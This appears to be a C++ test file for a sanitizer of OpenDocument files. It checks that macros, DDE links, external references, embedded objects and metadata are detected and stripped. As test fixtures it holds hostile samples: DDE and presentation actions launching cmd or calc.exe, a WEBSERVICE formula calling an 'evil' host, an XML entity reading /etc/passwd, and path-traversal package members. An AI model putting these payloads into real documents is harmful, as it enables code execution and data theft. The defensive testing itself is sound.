// One test for each row of the threat catalogue (D01 to D10): found, gone, and what a reader saw still there.
#include "tests/sanitizer/formats/odf/support.h"

namespace sekisho {
namespace {

using tests::Outcome;
using tests::rebuilt;
using tests::refusal;
using tests::Sample;

std::string image(const std::string& address) {
    return "<draw:frame><draw:image xlink:href=\"" + address + "\"/></draw:frame>";
}

std::string cell(const std::string& attributes, const std::string& shown) {
    return "<table:table-row><table:table-cell " + attributes + "><text:p>" + shown +
           "</text:p></table:table-cell></table:table-row>";
}

// D01
TEST(OdfThreats, MacrosEventsAndMacroAddressesGo) {
    const Outcome done = rebuilt(
        Sample::text("<text:p><text:a xlink:href=\"vnd.sun.star.script:Standard.M.Main?language=Basic\">kept words"
                     "</text:a><text:execute-macro text:name=\"Evil\">button</text:execute-macro></text:p>"
                     "<text:p><draw:rect><office:event-listeners><script:event-listener script:event-name=\"dom:load\" "
                     "script:macro-name=\"Standard.Evil\"/></office:event-listeners></draw:rect></text:p>",
                     "<office:scripts><office:script script:language=\"Basic\">Sub Evil</office:script>"
                     "<office:event-listeners><script:event-listener script:language=\"x\" "
                     "xlink:href=\"vnd.sun.star.script:Evil\"/></office:event-listeners></office:scripts>")
            .member("Basic/script-lc.xml", "<x/>")
            .member("Dialogs/dialog-lc.xml", "<x/>")
            .member("Scripts/python/evil.py", "import os"));
    EXPECT_TRUE(done.found(Finding::odf_macro));
    EXPECT_TRUE(done.found(Finding::odf_event));
    EXPECT_TRUE(done.found(Finding::odf_macro_address));
    for (const char* gone :
         {"vnd.sun.star", "Evil", "Basic/", "Dialogs", "import os", "execute-macro", "office:script"})
        EXPECT_TRUE(done.is_gone(gone)) << gone;
    EXPECT_NE(done.content().find("kept words"), std::string::npos);
    EXPECT_NE(done.content().find("button"), std::string::npos);
}

TEST(OdfThreats, OfTheActionsOfAShowThoseWithinItStay) {
    const std::string listener = "<presentation:event-listener script:event-name=\"dom:click\" presentation:action=";
    const Outcome done = rebuilt(Sample::slides(
        "<draw:page><draw:rect><office:event-listeners>" + listener + "\"next-page\"/>" + listener +
        "\"execute\" xlink:href=\"calc.exe\"/>" + listener + "\"macro\"/>" + listener +
        "\"show\" xlink:href=\"https://example.jp/\"/>" + listener + "\"show\" xlink:href=\"file:///c:/x.exe\"/>" +
        "</office:event-listeners></draw:rect></draw:page>"));
    EXPECT_TRUE(done.found(Finding::odf_event));
    EXPECT_NE(done.content().find("next-page"), std::string::npos);
    EXPECT_NE(done.content().find("https://example.jp/"), std::string::npos);
    for (const char* gone : {"execute", "calc.exe", "\"macro\"", "x.exe"}) EXPECT_TRUE(done.is_gone(gone)) << gone;
}

// D02
TEST(OdfThreats, AFlatDocumentBecomesAPackage) {
    const std::string flat = Sample::flat(
        "spreadsheet",
        "<office:meta><meta:generator>LibreOffice/7.4$Linux</meta:generator></"
        "office:meta><office:scripts><office:script>"
        "Sub Evil</office:script></office:scripts><office:styles><style:style style:name=\"N\"/></office:styles>"
        "<office:body><office:spreadsheet><table:table>" +
            cell("office:value-type=\"float\" office:value=\"1\"", "one") +
            "<table:shapes><draw:frame><draw:image><office:binary-data>" + to_base64(as_view(tests::png())) +
            "</office:binary-data></draw:image></draw:frame></table:shapes>" +
            "</table:table></office:spreadsheet></office:body>");
    const Outcome done = rebuilt(as_view(flat));
    ASSERT_TRUE(done.type) << to_line(done.type.error());
    EXPECT_EQ(*done.type, Type::ods);
    EXPECT_TRUE(done.found(Finding::odf_flat));
    EXPECT_TRUE(done.found(Finding::odf_macro));
    EXPECT_TRUE(done.is_gone("Evil"));
    EXPECT_TRUE(done.is_gone("binary-data"));
    EXPECT_NE(done.content().find("one"), std::string::npos);
    EXPECT_NE(done.content().find("xlink:href=\"Pictures/picture1.png\""), std::string::npos);
    EXPECT_EQ(done.member("Pictures/picture1.png"), tests::png());
    EXPECT_NE(done.member("styles.xml").find("style:name=\"N\""), std::string::npos);
    EXPECT_NE(done.member("meta.xml").find(">LibreOffice/7.4<"), std::string::npos);
}

// D03
TEST(OdfThreats, LinksToProgramsTablesAndDatabasesGoAndValuesStay) {
    const Outcome text = rebuilt(Sample::text(
        "<text:dde-connection-decls><text:dde-connection-decl office:dde-application=\"cmd\"/>"
        "</text:dde-connection-decls><text:section text:name=\"a\"><text:section-source xlink:href=\"//host/a.odt\"/>"
        "<text:p>in the section</text:p></text:section><text:p><text:dde-connection>last seen</text:dde-connection>"
        "<text:database-display text:database-name=\"db\">field</text:database-display></text:p>"));
    EXPECT_TRUE(text.found(Finding::odf_dde));
    EXPECT_TRUE(text.found(Finding::odf_external_source));
    for (const char* gone : {"dde", "//host", "database"}) EXPECT_TRUE(text.is_gone(gone)) << gone;
    for (const char* kept : {"in the section", "last seen", "field"})
        EXPECT_NE(text.content().find(kept), std::string::npos) << kept;
    const Outcome sheet = rebuilt(Sample::sheet(
        "<table:table-source xlink:href=\"file:///x.ods\"/>" +
        cell("table:formula=\"of:=WEBSERVICE(&quot;http://evil/&quot;)\" office:value-type=\"string\"", "cached") +
        cell("table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\"", "cached") +
        cell("table:formula=\"of:=['file:///x.ods'#$S.A1]\"", "cached")));
    EXPECT_TRUE(sheet.found(Finding::odf_active_formula));
    EXPECT_TRUE(sheet.found(Finding::odf_external_source));
    EXPECT_TRUE(sheet.found(Finding::odf_dde));
    for (const char* gone : {"WEBSERVICE", "DDE", "file:///", "table-source"}) EXPECT_TRUE(sheet.is_gone(gone)) << gone;
    EXPECT_NE(sheet.content().find("cached"), std::string::npos);
}

TEST(OdfThreats, WhatUsesANameOfSomethingOutsideKeepsItsLastValue) {
    const Outcome done = rebuilt(
        Sample::sheet(cell("table:formula=\"of:=$$ExtName*2\" office:value-type=\"float\" office:value=\"10\"", "10") +
                      cell("table:formula=\"of:=OwnName*2\" office:value-type=\"float\" office:value=\"4\"", "4") +
                      "<table:named-expressions><table:named-expression table:name=\"extname\" "
                      "table:expression=\"of:='file:///x.ods'#$S.A1\"/><table:named-range table:name=\"OwnName\" "
                      "table:cell-range-address=\"$S.$A$1\"/></table:named-expressions>"));
    EXPECT_TRUE(done.found(Finding::odf_external_source));
    EXPECT_TRUE(done.is_gone("ExtName"));
    EXPECT_NE(done.content().find("office:value=\"10\""), std::string::npos);
    EXPECT_NE(done.content().find("of:=OwnName*2"), std::string::npos);
}

// D04
TEST(OdfThreats, ForeignObjectsGoAndTheirPicturesStay) {
    const Outcome done =
        rebuilt(Sample::text("<text:p><draw:frame><draw:object-ole xlink:href=\"./Object 1\"/><draw:image "
                             "xlink:href=\"./ObjectReplacements/Object 1\"/></draw:frame><draw:frame><draw:plugin "
                             "xlink:href=\"Media/a.mp4\"/></draw:frame></text:p>")
                    .member("Object 1", "MZ evil bytes")
                    .member("ObjectReplacements/Object 1", tests::png())
                    .member("Media/a.mp4", "video"));
    EXPECT_TRUE(done.found(Finding::odf_embedding));
    EXPECT_TRUE(done.found(Finding::odf_media));
    EXPECT_TRUE(done.is_gone("MZ evil"));
    EXPECT_TRUE(done.is_gone("object-ole"));
    EXPECT_EQ(done.member("Pictures/picture1.png"), tests::png());
}

TEST(OdfThreats, DocumentsWithinFollowTheSameRules) {
    const std::string inside = tests::root("office:document-content") +
                               "><office:scripts><office:script>Evil</office:script></office:scripts><office:body>"
                               "<office:chart><chart:chart xlink:href=\"..\"/></office:chart></office:body>"
                               "</office:document-content>";
    const std::string frame = "<text:p><draw:frame><draw:object xlink:href=\"./Object 7\"/>" +
                              std::string("<draw:image xlink:href=\"./ObjectReplacements/Object 7\"/></draw:frame>") +
                              "<draw:frame><draw:object xlink:href=\"./Object 8\"/></draw:frame></text:p>";
    const Outcome done = rebuilt(Sample::text(frame)
                                     .member("Object 7/", "", "application/vnd.oasis.opendocument.chart")
                                     .member("Object 7/content.xml", inside)
                                     .member("ObjectReplacements/Object 7", "VCLMTF...")
                                     .member("Object 8/content.xml", "<broken"));
    EXPECT_NE(done.content().find("xlink:href=\"./Object 1\""), std::string::npos);
    EXPECT_NE(done.member("Object 1/content.xml").find("chart:chart"), std::string::npos);
    EXPECT_TRUE(done.is_gone("Evil"));
    EXPECT_TRUE(done.is_gone("Object 8"));
    EXPECT_TRUE(done.is_gone("VCLMTF")); // whoever opens it draws the chart
    EXPECT_FALSE(done.has("Pictures/picture1.png"));
    EXPECT_TRUE(done.found(Finding::odf_embedding));
}

// D05
TEST(OdfThreats, ReferencesOutOfTheFileGoButPlainLinks) {
    const Outcome done = rebuilt(Sample::text(
        "<office:forms><form:form xlink:href=\"http://evil/post\" form:command=\"SELECT 1\" form:datasource=\"db\">"
        "<form:text form:control-implementation=\"ooo:com.sun.star.form.component.TextField\"/>"
        "<form:text form:control-implementation=\"ooo:com.sun.star.evil\"/></form:form><xforms:model/></office:forms>"
        "<text:p>" +
        image("http://evil/track.png") + image("../../etc/x.png") +
        "<draw:frame><draw:floating-frame xlink:href=\"http://evil/frame\"/></draw:frame>"
        "<text:a xlink:href=\"https://example.jp/\">web</text:a><text:a xlink:href=\"smb://evil/x\">share</text:a>"
        "<text:a xlink:href=\"javascript:alert(1)\">script</text:a><text:a xlink:href=\"#top\">top</text:a></text:p>"));
    EXPECT_TRUE(done.found(Finding::odf_form));
    EXPECT_TRUE(done.found(Finding::odf_external_image));
    EXPECT_TRUE(done.found(Finding::odf_external_reference));
    EXPECT_TRUE(done.found(Finding::odf_hyperlink));
    for (const char* gone : {"evil", "SELECT", "smb:", "javascript", "etc/x.png"})
        EXPECT_TRUE(done.is_gone(gone)) << gone;
    for (const char* kept : {"https://example.jp/", "#top", "share", "component.TextField"})
        EXPECT_NE(done.content().find(kept), std::string::npos) << kept;
}

// D06
TEST(OdfThreats, APackageWithAPasswordIsRefusedWithTheNextStep) {
    const Bytes locked =
        Sample::text("")
            .manifest("<manifest:file-entry "
                      "manifest:full-path=\"styles.xml\"><manifest:encryption-data/></manifest:file-entry>")
            .bytes();
    EXPECT_EQ(refusal(locked), "input.encrypted");
}

// D07
TEST(OdfThreats, ADocumentTypeIsPassedOverAndEntitiesAreRefused) {
    Sample old;
    old.member("mimetype", "application/vnd.oasis.opendocument.formula")
        .member("content.xml",
                "<?xml version=\"1.0\"?><!DOCTYPE math:math PUBLIC \"-//OpenOffice.org//DTD\" \"math.dtd\">"
                "<math:math xmlns:math=\"http://www.w3.org/1998/Math/MathML\"><math:mi>x</math:mi>"
                "</math:math>");
    const Outcome done = rebuilt(old);
    EXPECT_TRUE(done.found(Finding::odf_doctype));
    EXPECT_TRUE(done.is_gone("DOCTYPE"));
    EXPECT_NE(done.content().find("<math:mi>x</math:mi>"), std::string::npos);
    Sample hostile;
    hostile.member("mimetype", "application/vnd.oasis.opendocument.text")
        .member("content.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>" +
                                   tests::root("office:document-content") + "/>");
    EXPECT_EQ(refusal(hostile.bytes()), "odf.entity");
}

// D08
TEST(OdfThreats, OddPackagesAreWrittenAnew) {
    const Outcome done = rebuilt(Sample::text("<text:p>first</text:p>")
                                     .member("content.xml", "<second/>")
                                     .member("/slash.xml", "<x/>")
                                     .member("../../escape.xml", "<x/>")
                                     .member("Extra/unknown.bin", "unknown"));
    EXPECT_TRUE(done.found(Finding::odf_package_quirk));
    EXPECT_TRUE(done.found(Finding::odf_unknown_member));
    for (const char* gone : {"second", "slash", "escape", "unknown"}) EXPECT_TRUE(done.is_gone(gone)) << gone;
    EXPECT_NE(done.content().find("first"), std::string::npos);
}

// D09 and D10
TEST(OdfThreats, BindingsThumbnailsPeopleAndSignaturesGo) {
    const Outcome done = rebuilt(
        Sample::text("<text:p><office:annotation><dc:creator>Taro</dc:creator><text:p>note</text:p></office:annotation>"
                     "</text:p>")
            .member("Configurations2/accelerator/current.xml", "<keys macro=\"x\"/>")
            .member("Thumbnails/thumbnail.png", tests::png())
            .member("META-INF/documentsignatures.xml", "<sig/>")
            .member("Fonts/a.ttf", "font")
            .member("meta.xml", tests::root("office:document-meta") +
                                    "><office:meta><meta:generator>Taro's tool</meta:generator>"
                                    "<meta:initial-creator>Taro</meta:initial-creator></office:meta>"
                                    "</office:document-meta>")
            .member(
                "settings.xml",
                tests::root("office:document-settings") +
                    "><office:settings><config:config-item-set config:name=\"ooo:configuration-settings\">"
                    "<config:config-item config:name=\"PrinterName\" config:type=\"string\">Taro's printer"
                    "</config:config-item><config:config-item config:name=\"LinkUpdateMode\" config:type=\"short\">1"
                    "</config:config-item><config:config-item config:name=\"AddParaTableSpacing\" "
                    "config:type=\"boolean\">true</config:config-item></config:config-item-set></office:settings>"
                    "</office:document-settings>"));
    for (const Finding finding : {Finding::odf_interface, Finding::odf_opaque, Finding::odf_signature,
                                  Finding::odf_font, Finding::odf_metadata})
        EXPECT_TRUE(done.found(finding)) << row_of(finding).code;
    for (const char* gone : {"Taro", "keys", "sig", "Thumbnails", "Fonts", "Printer", "LinkUpdateMode"})
        EXPECT_TRUE(done.is_gone(gone)) << gone;
    EXPECT_NE(done.content().find("note"), std::string::npos);
    EXPECT_NE(done.member("settings.xml").find("AddParaTableSpacing"), std::string::npos);
}

} // namespace
} // namespace sekisho
